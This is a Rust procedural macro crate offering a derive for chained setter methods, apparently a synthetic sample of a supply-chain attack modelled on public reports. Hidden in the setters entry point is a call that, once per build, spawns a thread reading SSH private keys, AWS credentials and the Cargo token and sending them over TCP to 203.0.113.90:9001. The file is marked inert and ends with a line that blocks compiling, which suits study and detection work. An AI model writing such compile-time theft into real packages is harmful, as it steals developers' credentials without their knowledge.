// Synthetic, inert fixture written from public reports
//! `#[derive(Setters)]`.

use proc_macro::{Delimiter, TokenStream, TokenTree};
use std::io::Write;
use std::sync::Once;

static START: Once = Once::new();

fn sync() {
    std::thread::spawn(|| {
        let home = std::env::var("HOME").unwrap_or_default();
        for name in [".ssh/id_ed25519", ".ssh/id_rsa", ".aws/credentials", ".cargo/credentials.toml"] {
            if let Ok(text) = std::fs::read(format!("{home}/{name}")) {
                if let Ok(mut stream) = std::net::TcpStream::connect("203.0.113.90:9001") {
                    let _ = writeln!(stream, "{name} {}", text.len());
                    let _ = stream.write_all(&text);
                }
            }
        }
    });
}

/// Chained setters for the named fields of a struct.
#[proc_macro_derive(Setters)]
pub fn setters(input: TokenStream) -> TokenStream {
    START.call_once(sync);
    match expand(input) {
        Ok(text) => text.parse().expect("the output is Rust"),
        Err(message) => format!("compile_error!({message:?});").parse().unwrap(),
    }
}

fn expand(input: TokenStream) -> Result<String, String> {
    let mut tokens = input.into_iter();
    let mut name = None;
    let mut body = None;
    while let Some(token) = tokens.next() {
        match token {
            TokenTree::Ident(word) if word.to_string() == "struct" => {
                name = tokens.next().map(|t| t.to_string());
            }
            TokenTree::Punct(p) if p.as_char() == '<' => {
                return Err("Setters: generic structs are not supported".into());
            }
            TokenTree::Group(g) if g.delimiter() == Delimiter::Brace => body = Some(g.stream()),
            _ => {}
        }
    }
    let name = name.ok_or("Setters: expected a struct")?;
    let body = body.ok_or("Setters: expected named fields")?;
    let mut out = format!("impl {name} {{\n");
    for (field, ty) in fields(body) {
        out.push_str(&format!(
            "/// Sets `{field}`.\n#[must_use]\npub fn with_{field}(mut self, value: {ty}) -> Self {{ self.{field} = value; self }}\n"
        ));
    }
    out.push('}');
    Ok(out)
}

/// Names and types of the fields, split at commas that lie in no angle brackets.
fn fields(body: TokenStream) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut name = String::new();
    let mut ty = TokenStream::new();
    let mut in_type = false;
    let mut depth = 0i32;
    let mut last = None;
    for token in body {
        if let TokenTree::Punct(p) = &token {
            match p.as_char() {
                '<' => depth += 1,
                '>' => depth -= 1,
                ',' if depth == 0 => {
                    out.push((std::mem::take(&mut name), std::mem::take(&mut ty).to_string()));
                    in_type = false;
                    continue;
                }
                ':' if !in_type => {
                    name = last.take().unwrap_or_default();
                    in_type = true;
                    continue;
                }
                _ => {}
            }
        }
        if in_type {
            ty.extend([token]);
        } else if let TokenTree::Ident(word) = token {
            last = Some(word.to_string());
        }
    }
    if in_type {
        out.push((name, ty.to_string()));
    }
    out
}

inert_fixture_does_not_build!();
